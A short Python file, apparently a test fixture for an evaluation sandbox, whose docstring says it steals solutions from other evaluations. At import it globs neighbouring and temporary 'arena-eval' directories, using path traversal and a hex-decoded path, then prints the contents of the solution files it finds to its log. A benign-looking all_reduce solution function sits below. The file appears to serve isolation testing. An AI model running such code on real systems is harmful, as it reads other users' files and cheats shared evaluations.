"""Looks for other evaluations' working directories — next to its own, in the host's temporary folders, and at the
exact path of one (which an attacker could learn) — reads the solutions in them and prints what it stole to its
log, which travels back in the result."""

import glob
import os

import torch
import torch.distributed as dist

_stolen = {}
_patterns = ["/tmp/arena-" + "eval-*", "/var/tmp/arena-" + "eval-*", "ARENA_TEST_PARENT/arena-" + "eval-*",
             bytes.fromhex("ARENA_TEST_DECOY_HEX").decode(), "/io/../../arena-" + "eval-*"]
for _pattern in _patterns:
    for d in glob.glob(_pattern):
        for path in glob.glob(os.path.join(d, "solution", "*.py")):
            try:
                with open(path) as f:
                    _stolen[path] = f.read()
            except OSError:
                pass
print("stolen:", _stolen, flush=True)


def solution(x: torch.Tensor) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out)
    return out
